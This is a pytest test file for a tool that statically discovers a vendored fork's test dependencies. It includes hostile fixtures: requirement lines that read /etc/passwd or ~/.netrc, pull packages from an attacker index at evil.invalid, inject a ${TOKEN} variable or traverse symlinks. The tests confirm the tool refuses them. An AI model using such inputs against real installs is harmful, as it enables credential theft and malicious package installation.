"""Finding a fork's test dependencies in its vendored tree, statically."""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import pytest
from packaging.requirements import Requirement

from forkman.core.errors import ConfigError
from forkman.model.config import load_config
from forkman.testing.deps import MAX_FILE_BYTES, TestDependencies, discover, resolve
from forkman.testing.run import load_test_config
from tests.support.cli import run
from tests.support.index import LocalIndex, default_project_files


def make(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return root


def reqs(deps: TestDependencies) -> list[str]:
    return list(deps.requirements)


def sources(deps: TestDependencies) -> dict[str, str]:
    return {f.requirement: f.source for f in deps.found}


def assert_installable(deps: TestDependencies) -> None:
    """Every returned string is a plain PEP 508 requirement: no option, URL or marker."""
    for text in (*deps.requirements, *(c.requirement for c in deps.constraints)):
        req = Requirement(text)
        assert req.url is None and req.marker is None, text
        assert not text.startswith("-") and " " not in text, text


PYPROJECT = '[project]\nname = "demo"\nversion = "1.0"\n'


# ---- dependency groups ---------------------------------------------------------------


def test_dependency_groups_test_named_with_includes(tmp_path: Path) -> None:
    tree = make(
        tmp_path,
        {
            "pyproject.toml": PYPROJECT
            + "[dependency-groups]\n"
            + 'Tests = ["pytest>=8", {include-group = "typing"}, "demo[speed]"]\n'
            + 'typing = ["mypy", {include-group = "Tests"}]\n'
            + 'dev = ["ruff", {include-group = "tests"}]\n'
            + "[project.optional-dependencies]\n"
            + 'speed = ["ujson"]\n',
        },
    )
    deps = discover(tree, "demo")
    assert reqs(deps) == ["pytest>=8", "mypy", "ujson"]
    src = sources(deps)
    assert src["pytest>=8"] == "pyproject.toml [dependency-groups] tests"
    assert src["mypy"] == "pyproject.toml [dependency-groups] tests -> typing"
    assert src["ujson"] == "pyproject.toml [dependency-groups] tests -> [speed]"
    assert any("cycle cut" in n for n in deps.notes)  # typing includes tests again
    assert any("'dev' not used" in n for n in deps.notes)
    assert_installable(deps)


def test_dev_group_when_no_test_group(tmp_path: Path) -> None:
    tree = make(tmp_path, {"pyproject.toml": PYPROJECT + '[dependency-groups]\ndev = ["pytest"]\n'})
    assert sources(discover(tree, "demo")) == {"pytest": "pyproject.toml [dependency-groups] dev"}


def test_a_group_that_includes_itself_is_cut(tmp_path: Path) -> None:
    tree = make(
        tmp_path,
        {
            "pyproject.toml": PYPROJECT
            + '[dependency-groups]\ntest = [{include-group = "test"}, "pytest", '
            + '{include-group = "a"}]\na = [{include-group = "b"}]\nb = [{include-group = "a"}, '
            + '"hypothesis"]\n'
        },
    )
    deps = discover(tree, "demo")
    assert reqs(deps) == ["pytest", "hypothesis"]
    assert sum("cycle cut" in n for n in deps.notes) == 2


def test_many_includes_of_one_group_are_read_once(tmp_path: Path) -> None:
    # g0 includes g1 twice, g1 includes g2 twice, ...: 2**40 expansions if read naively
    groups = "".join(
        f'g{i} = [{{include-group = "g{i + 1}"}}, {{include-group = "g{i + 1}"}}]\n'
        for i in range(40)
    )
    tree = make(
        tmp_path,
        {
            "pyproject.toml": PYPROJECT
            + '[dependency-groups]\ntest = [{include-group = "g0"}]\n'
            + groups
            + 'g40 = ["pytest"]\n'
        },
    )
    assert reqs(discover(tree, "demo")) == ["pytest"]


# ---- extras ------------------------------------------------------------------------


def test_extras_expand_the_fork_itself_instead_of_requiring_it(tmp_path: Path) -> None:
    # attrs 23.1.0: tests = ["attrs[tests-no-zope]", "zope.interface"]
    tree = make(
        tmp_path,
        {
            "pyproject.toml": '[project]\nname = "Demo_Pkg"\nversion = "1"\n'
            + "dependencies = ['importlib_metadata; python_version < \"3.8\"']\n"
            + "[project.optional-dependencies]\n"
            + 'tests-no-zope = ["hypothesis", \'cloudpickle; python_implementation == "CPython"\','
            + " 'old; python_version < \"3.0\"']\n"
            + 'tests = ["demo.pkg[tests-no-zope]", "zope.interface", "demo-pkg"]\n'
            + 'cov = ["demo-pkg[tests]", "coverage"]\n'
        },
    )
    deps = discover(tree, "demo-pkg")
    expected = ["hypothesis", "zope.interface"]
    if sys.implementation.name == "cpython":
        expected.insert(1, "cloudpickle")
    assert reqs(deps) == expected
    assert sources(deps)["hypothesis"] == "extra [tests] -> [tests-no-zope]"
    assert not any(Requirement(r).name.lower().startswith("demo") for r in reqs(deps))
    assert any("'old; python_version < \"3.0\"'" in n and "does not hold" in n for n in deps.notes)
    assert "coverage" not in reqs(deps)  # [cov] is not a test extra
    assert_installable(deps)


def test_extras_that_include_each_other_terminate(tmp_path: Path) -> None:
    tree = make(
        tmp_path,
        {
            "pyproject.toml": PYPROJECT
            + "[project.optional-dependencies]\n"
            + 'test = ["demo[more]", "pytest"]\nmore = ["demo[test]", "demo[more]", "mock"]\n'
        },
    )
    deps = discover(tree, "demo")
    assert reqs(deps) == ["mock", "pytest"]
    assert any("cycle cut" in n for n in deps.notes)


# ---- requirement files -----------------------------------------------------------------


def test_tests_requirements_txt(tmp_path: Path) -> None:
    # packaging 24.0
    tree = make(
        tmp_path,
        {
            "pyproject.toml": PYPROJECT,
            "tests/requirements.txt": "coverage[toml]>=5.0.0\npip>=21.1\npretend\npytest>=6.2.0\n",
        },
    )
    deps = discover(tree, "demo")
    assert reqs(deps) == ["coverage[toml]>=5.0.0", "pip>=21.1", "pretend", "pytest>=6.2.0"]
    assert sources(deps)["pretend"] == "tests/requirements.txt"


def test_test_files_win_over_dev_files_and_txt_over_in(tmp_path: Path) -> None:
    # jinja2 3.1.4: requirements/{tests,dev}.{in,txt}
    tree = make(
        tmp_path,
        {
            "requirements/tests.in": "pytest\n",
            "requirements/tests.txt": "# compiled\npytest==7.4.0\n    # via -r tests.in\n",
            "requirements/dev.txt": "-r docs.txt\ntox\n",
            "requirements/docs.txt": "sphinx\n",
            "requirements-dev.txt": "black\n",
        },
    )
    deps = discover(tree, "demo")
    assert sources(deps) == {"pytest==7.4.0": "requirements/tests.txt"}
    assert any("requirements/dev.txt" in n and "not used" in n for n in deps.notes)
    assert any("requirements/tests.in: not used" in n for n in deps.notes)


def test_root_dev_requirements_when_no_test_file(tmp_path: Path) -> None:
    # urllib3 2.2.1, charset-normalizer 3.3.2
    tree = make(
        tmp_path,
        {
            "dev-requirements.txt": (
                "trustme==1.1.0\n"
                "pytest-timeout==2.1.0  # a comment\n"
                'backports.zoneinfo==0.2.1;python_version<"3.9"\n'
                "hypercorn @ git+https://github.com/urllib3/hypercorn@urllib3-changes\n"
                "-r requirements/extra.txt\n"
            ),
            "requirements/extra.txt": "h2 \\\n  ==4.1.0\n",
            "requirements.txt": "not-a-test-file\n",
        },
    )
    deps = discover(tree, "demo")
    assert reqs(deps) == ["trustme==1.1.0", "pytest-timeout==2.1.0", "h2==4.1.0"]
    assert sources(deps)["h2==4.1.0"] == "dev-requirements.txt -> requirements/extra.txt"
    assert any("hypercorn" in n and "direct URL reference" in n for n in deps.notes)
    assert any("backports.zoneinfo" in n and "does not hold" in n for n in deps.notes)


def test_constraint_files_are_constraints(tmp_path: Path) -> None:
    tree = make(
        tmp_path,
        {
            "tests/requirements.txt": "-c ../constraints.txt\npytest\n",
            "constraints.txt": "pytest<9\n",
        },
    )
    deps = discover(tree, "demo")
    assert reqs(deps) == ["pytest"]
    assert [(c.requirement, c.source) for c in deps.constraints] == [
        ("pytest<9", "tests/requirements.txt -> constraints.txt")
    ]


def test_hostile_requirement_files_give_only_plain_requirements(tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / "outside.txt").parent.mkdir(parents=True)
    (project / "outside.txt").write_text("stolen-from-outside\n")
    tree = project / "vendor" / "demo"
    make(
        tree,
        {
            "tests/requirements.txt": (
                "-r /etc/passwd\n"
                "--requirement=/etc/hostname\n"
                "--index-url http://evil.invalid/simple/\n"
                "--extra-index-url=http://evil.invalid/simple/\n"
                "-i http://evil.invalid/simple/\n"
                "-f http://evil.invalid/links/\n"
                "--trusted-host evil.invalid\n"
                "--no-binary :all:\n"
                "--pre\n"
                "-e git+https://evil.invalid/x.git#egg=x\n"
                "-r ../../../outside.txt\n"
                "-r https://evil.invalid/more.txt\n"
                "-r ${HOME}/.netrc\n"
                "-c /etc/passwd\n"
                "./local/path\n"
                "https://evil.invalid/pkg-1.0.tar.gz\n"
                "pkg @ https://evil.invalid/pkg-1.0.tar.gz\n"
                "evilvar==${TOKEN}\n"
                "good==1.0 --hash=sha256:abcd --config-settings x=y\n"
                "-r linked.txt\n"
                "-r loop-a.txt\n"
                "-r tests/requirements.txt\n"
                "-r ../tests/requirements.txt\n"
                "plain\n"
            ),
        },
    )
    os.symlink("/etc/passwd", tree / "tests" / "linked.txt")
    os.symlink("loop-b.txt", tree / "tests" / "loop-a.txt")
    os.symlink("loop-a.txt", tree / "tests" / "loop-b.txt")
    (tree / "requirements").mkdir()
    os.symlink("/etc/passwd", tree / "requirements" / "tests.txt")
    deps = discover(tree, "demo")
    assert reqs(deps) == ["good==1.0", "plain"]
    assert deps.constraints == ()
    assert_installable(deps)
    notes = "\n".join(deps.notes)
    assert "root:" not in notes and "stolen-from-outside" not in notes
    for expected in (
        "'/etc/passwd' lies outside the fork's tree; refused",
        "'../../../outside.txt' lies outside the fork's tree; refused",
        "option --index-url ignored",
        "option --extra-index-url ignored",
        "option -i ignored",
        "option -f ignored",
        "option --no-binary ignored",
        "option --trusted-host ignored",
        "editable 'git+https://evil.invalid/x.git#egg=x' not used",
        "'https://evil.invalid/more.txt' refused",
        "'${HOME}/.netrc' refused",
        "'./local/path' is not a PEP 508 requirement",
        "is a direct URL reference; not used",
        "'evilvar==${TOKEN}' is refused",
        "options after 'good==1.0' ignored",
        "requirements file 'linked.txt' lies outside the fork's tree; refused",
        "requirements/tests.txt: lies outside the fork's tree; not read",
        "includes itself; cycle cut",
        "requirements file 'loop-a.txt' cannot be resolved; refused",
    ):
        assert expected in notes, expected


def test_huge_files_are_not_read(tmp_path: Path) -> None:
    tree = make(tmp_path, {"tests/requirements.txt": "pytest\n" * (MAX_FILE_BYTES // 7 + 1)})
    deps = discover(tree, "demo")
    assert reqs(deps) == []
    assert any("larger than" in n for n in deps.notes)


def test_self_paths_expand_extras(tmp_path: Path) -> None:
    tree = make(
        tmp_path,
        {
            "pyproject.toml": PYPROJECT + '[project.optional-dependencies]\nfast = ["ujson"]\n',
            "requirements-test.txt": "-e .[fast]\n.\ndemo\n",
        },
    )
    deps = discover(tree, "demo")
    assert sources(deps) == {"ujson": "requirements-test.txt -> [fast]"}


# ---- tox, nox, setup.py ---------------------------------------------------------------


def test_tox_ini_static_deps_and_extras(tmp_path: Path) -> None:
    tree = make(
        tmp_path,
        {
            "pyproject.toml": PYPROJECT + '[project.optional-dependencies]\ncov = ["coverage"]\n',
            "tox.ini": (
                "[tox]\nenvlist = py3\n\n[testenv]\n"
                "deps =\n    -r{toxinidir}/req/ci.txt\n    pytest-mock  # mocks\n"
                "    py38: old-thing\n    {env:EXTRA_DEP}\n    --index-url http://evil.invalid\n"
                "extras = cov\ncommands = pytest {posargs}\n\n"
                "[testenv:lint]\ndeps = flake8\n"
            ),
            "req/ci.txt": "pytest==8.0\n",
        },
    )
    deps = discover(tree, "demo")
    assert sources(deps) == {
        "pytest==8.0": "tox.ini [testenv] deps -> req/ci.txt",
        "pytest-mock": "tox.ini [testenv] deps",
        "coverage": "tox.ini [testenv] extras -> [cov]",
    }
    notes = "\n".join(deps.notes)
    assert "factor-conditional 'py38: old-thing'" in notes
    assert "'{env:EXTRA_DEP}' has a substitution" in notes
    assert "option --index-url ignored" in notes


PAYLOAD = "import pathlib\npathlib.Path({mark!r}).write_text('ran')\n"


def test_setup_py_literals_are_read_without_running_it(tmp_path: Path) -> None:
    mark = tmp_path / "setup-py-ran"
    tree = make(
        tmp_path / "tree",
        {
            "setup.py": PAYLOAD.format(mark=str(mark))
            + "from setuptools import setup\n"
            + "requires = ['charset_normalizer>=2,<4', 'idna>=2.5']\n"
            + "test_requirements = ['pytest-httpbin==2.0.0', 'pytest-mock'] + ['trustme']\n"
            + "setup(\n    name='requests',\n    install_requires=requires,\n"
            + "    tests_require=test_requirements,\n"
            + "    extras_require={'socks': ['PySocks'], 'tests:python_version>=\"3\"': ['pytest'],"
            + " 'testing': open('x').read().split()},\n"
            + "    version=open('VERSION').read(),\n)\n",
        },
    )
    deps = discover(tree, "requests")
    assert not mark.exists()
    assert sources(deps) == {
        "pytest": "extra [tests] (setup.py)",
        "pytest-httpbin==2.0.0": "setup.py tests_require",
        "pytest-mock": "setup.py tests_require",
        "trustme": "setup.py tests_require",
        "charset_normalizer<4,>=2": "setup.py install_requires",
        "idna>=2.5": "setup.py install_requires",
    }
    assert "setup.py: extras_require 'testing' is computed; not read" in deps.notes
    assert "setup.py: version is computed, not a literal; not read" not in deps.notes


def test_setup_cfg_metadata_and_pytest_section(tmp_path: Path) -> None:
    # charset-normalizer 3.3.2: [tool:pytest] addopts = --cov=... --cov-report=...
    tree = make(
        tmp_path,
        {
            "setup.py": "from setuptools import setup\nsetup(name='demo')\n",
            "setup.cfg": (
                "[metadata]\nname = demo\n\n[options]\ninstall_requires =\n    six\n"
                "tests_require = mock\n\n[options.extras_require]\ntesting =\n    pytest\n\n"
                "[tool:pytest]\naddopts = --cov=demo --cov-report=term-missing -rxXs\n"
            ),
        },
    )
    deps = discover(tree, "demo")
    assert sources(deps) == {
        "pytest": "extra [testing] (setup.cfg)",
        "mock": "setup.cfg [options] tests_require",
        "six": "setup.cfg [options] install_requires",
        "pytest-cov": "setup.cfg [tool:pytest] addopts --cov=demo -> pytest-cov",
    }


def test_noxfile_literals_of_test_sessions_without_running_it(tmp_path: Path) -> None:
    mark = tmp_path / "noxfile-ran"
    tree = make(
        tmp_path / "tree",
        {
            "noxfile.py": PAYLOAD.format(mark=str(mark))
            + "import nox\n\n"
            + "@nox.session(python=['3.11'])\ndef tests(session):\n"
            + "    session.install('-r', 'requirements/ci.txt')\n"
            + "    session.install('pytest', '--pre', 'pytest-xdist', '-e', '.')\n"
            + "    session.install(*EXTRA)\n"
            + "    session.run('pytest')\n\n"
            + "@nox.session(name='unit-tests')\ndef unit(session):\n"
            + "    session.install('freezegun')\n\n"
            + "@nox.session\ndef lint(session):\n    session.install('flake8')\n",
            "requirements/ci.txt": "coverage\n",
        },
    )
    deps = discover(tree, "demo")
    assert not mark.exists()
    assert sources(deps) == {
        "coverage": "noxfile.py session tests -> requirements/ci.txt",
        "pytest": "noxfile.py session tests",
        "pytest-xdist": "noxfile.py session tests",
        "freezegun": "noxfile.py session unit-tests",
    }
    assert "noxfile.py session tests: an install() argument is computed; not read" in deps.notes


# ---- metadata, pytest configuration, order ---------------------------------------------


def test_pytest_configuration_implies_plugins(tmp_path: Path) -> None:
    tree = make(
        tmp_path,
        {
            "pyproject.toml": PYPROJECT
            + "[tool.pytest.ini_options]\n"
            + 'addopts = ["-n", "auto", "--timeout=30", "-p", "no:cacheprovider", "-p", "anyio",'
            + ' "--benchmark-disable", "-p", "mystery", "--strict-config"]\n'
            + 'asyncio_mode = "auto"\nrequired_plugins = "pytest-randomly>=3 pytest-env"\n'
        },
    )
    deps = discover(tree, "demo")
    src = sources(deps)
    assert reqs(deps) == [
        "pytest-xdist",
        "pytest-timeout",
        "anyio",
        "pytest-benchmark",
        "pytest-asyncio",
        "pytest-randomly>=3",
        "pytest-env",
    ]
    assert (
        src["pytest-xdist"] == "pyproject.toml [tool.pytest.ini_options] addopts -n -> pytest-xdist"
    )
    assert (
        src["pytest-asyncio"]
        == "pyproject.toml [tool.pytest.ini_options] asyncio_mode -> pytest-asyncio"
    )
    assert any("-p mystery is not known" in n for n in deps.notes)


def test_pytest_ini_wins_like_pytest_itself(tmp_path: Path) -> None:
    tree = make(
        tmp_path,
        {
            "pytest.ini": "[pytest]\naddopts = -ra\n",
            "pyproject.toml": PYPROJECT + '[tool.pytest.ini_options]\naddopts = "--cov"\n',
        },
    )
    assert reqs(discover(tree, "demo")) == []


def test_order_of_trust_and_first_source_kept(tmp_path: Path) -> None:
    tree = make(
        tmp_path,
        {
            "pyproject.toml": '[project]\nname = "demo"\nversion = "1"\n'
            + 'dependencies = ["markupsafe>=2.0", "pytest"]\n'
            + '[project.optional-dependencies]\ntest = ["pytest>=7", "demo"]\n'
            + '[dependency-groups]\ntest = ["pytest==8.1"]\n'
            + '[tool.pytest.ini_options]\naddopts = "--cov"\n',
            "tests/requirements.txt": "pytest-cov==5.0\npytest<9\n",
        },
    )
    deps = discover(tree, "demo")
    assert sources(deps) == {
        "pytest==8.1": "pyproject.toml [dependency-groups] test",
        "pytest-cov==5.0": "tests/requirements.txt",
        "markupsafe>=2.0": "pyproject.toml [project] dependencies",
    }
    notes = "\n".join(deps.notes)
    assert (
        "pytest>=7 not used: pytest==8.1 (pyproject.toml [dependency-groups] test) comes first"
        in notes
    )
    assert "demo is the fork itself" in notes
    assert "pytest-cov not used" not in notes  # a bare name adds nothing


def test_dynamic_dependencies_are_noted(tmp_path: Path) -> None:
    tree = make(
        tmp_path,
        {"pyproject.toml": '[project]\nname = "demo"\ndynamic = ["dependencies", "version"]\n'},
    )
    deps = discover(tree, "demo")
    assert reqs(deps) == []
    assert any("dependencies are dynamic" in n for n in deps.notes)


def test_unreadable_metadata_is_a_note(tmp_path: Path) -> None:
    tree = make(
        tmp_path,
        {
            "pyproject.toml": "this is [not toml",
            "setup.py": "def broken(:\n",
            "tox.ini": "no section header\n",
        },
    )
    deps = discover(tree, "demo")
    assert reqs(deps) == []
    notes = "\n".join(deps.notes)
    assert "pyproject.toml: not valid TOML" in notes
    assert "setup.py: cannot be parsed" in notes
    assert "tox.ini: not a valid ini file" in notes


# ---- configuration -----------------------------------------------------------------------


def test_configured_requirements_come_first_and_override(tmp_path: Path) -> None:
    tree = make(
        tmp_path,
        {
            "pyproject.toml": PYPROJECT
            + '[project.optional-dependencies]\ntests = ["pytest<8"]\n'
            + 'extra = ["ujson"]\n',
        },
    )
    where = "[tool.forkman.forks.demo.test]"
    deps = resolve(tree, "demo", requirements=["pytest==8.2", "tox"], extras=["extra"])
    assert sources(deps) == {
        "pytest==8.2": f"{where} requirements",
        "tox": f"{where} requirements",
        "ujson": f"{where} extras -> [extra]",
    }
    off = resolve(
        tree,
        "demo",
        requirements=["tox"],
        command=["python", "-m", "pytest", "-n", "4", "-p", "no:x"],
        discover=False,
    )
    assert sources(off) == {
        "tox": f"{where} requirements",
        "pytest-xdist": f"{where} command -n -> pytest-xdist",
    }
    assert any("discover = false" in n for n in off.notes)
    with pytest.raises(ConfigError, match="not a PEP 508 requirement"):
        resolve(tree, "demo", requirements=["--index-url=http://evil.invalid"])
    with pytest.raises(ConfigError, match="no extra 'nope'"):
        resolve(tree, "demo", extras=["nope"])


def test_load_test_config_reads_discover(tmp_path: Path) -> None:
    def cfg(body: str) -> bool:
        (tmp_path / "pyproject.toml").write_text(
            '[project]\nname = "c"\nversion = "0"\n[tool.forkman.forks.demo.test]\n' + body
        )
        return load_test_config(load_config(tmp_path / "pyproject.toml"), "demo").discover

    assert cfg("") is True
    assert cfg("discover = false\n") is False
    with pytest.raises(ConfigError, match="discover must be true or false"):
        cfg('discover = "no"\n')


# ---- the CLI -------------------------------------------------------------------------------


def test_explain_shows_what_was_found_and_runs_nothing(cwd: Path, local_index: LocalIndex) -> None:
    assert run("init").exit_code == 0
    files = default_project_files("demo", "1.0")
    files["pyproject.toml"] += '[project.optional-dependencies]\ntests = ["hypothesis"]\n'
    files["tests/requirements.txt"] = "pretend\n--index-url http://evil.invalid/simple/\n"
    local_index.add_sdist("demo", "1.0", files)
    assert run("fork", "demo==1.0").exit_code == 0
    with (cwd / "pyproject.toml").open("a") as f:
        f.write('\n[tool.forkman.forks.demo.test]\nrequirements = ["pytest-mock"]\n')
    lock_before = (cwd / "forkman.lock").read_bytes()

    res = run("test", "demo", "--explain")
    assert res.exit_code == 0, res
    lines = res.stdout.splitlines()
    assert lines[0] == "demo (vendor/demo): test dependencies, discovery on"
    assert lines[1].split() == ["requirement", "source"]
    rows = [ln.split(None, 1) for ln in lines[3:6]]
    assert rows == [
        ["pytest-mock", "[tool.forkman.forks.demo.test] requirements"],
        ["hypothesis", "extra [tests]"],
        ["pretend", "tests/requirements.txt"],
    ]
    assert "configured: requirements: pytest-mock; extras: none" in lines
    assert "note: tests/requirements.txt: option --index-url ignored" in res.stdout

    res = run("test", "demo", "--explain", "--format", "json")
    assert res.exit_code == 0, res
    [report] = json.loads(res.stdout)
    assert report["name"] == "demo" and report["discover"] is True
    assert [f["requirement"] for f in report["found"]] == ["pytest-mock", "hypothesis", "pretend"]
    assert report["configured"] == {"requirements": ["pytest-mock"], "extras": []}
    assert (cwd / "forkman.lock").read_bytes() == lock_before  # nothing ran, nothing recorded

    assert run("test", "nope", "--explain").exit_code == 2


# ---- real releases ---------------------------------------------------------------------------


@pytest.mark.network
@pytest.mark.parametrize(
    ("spec", "needs"),
    [
        ("attrs==23.1.0", "hypothesis"),
        ("packaging==24.0", "pretend"),
        ("urllib3==2.2.1", "trustme"),
        ("jinja2==3.1.4", "markupsafe"),
        ("charset-normalizer==3.3.2", "pytest-cov"),
    ],
)
def test_real_releases(tmp_path: Path, spec: str, needs: str) -> None:
    from packaging.utils import canonicalize_name

    from forkman.sources.index import fetch_release
    from forkman.sources.interface import DistKind
    from forkman.sources.unpack import unpack_archive

    release = fetch_release(
        spec, index_urls=["https://pypi.org/simple/"], prefer=DistKind.SDIST, prereleases=False
    )
    tree = tmp_path / "tree"
    unpack_archive(release.path, tree)
    name = spec.split("==")[0]
    deps = discover(tree, name)
    names = {canonicalize_name(Requirement(r).name) for r in deps.requirements}
    assert needs in names, deps
    assert canonicalize_name(name) not in names
    assert_installable(deps)
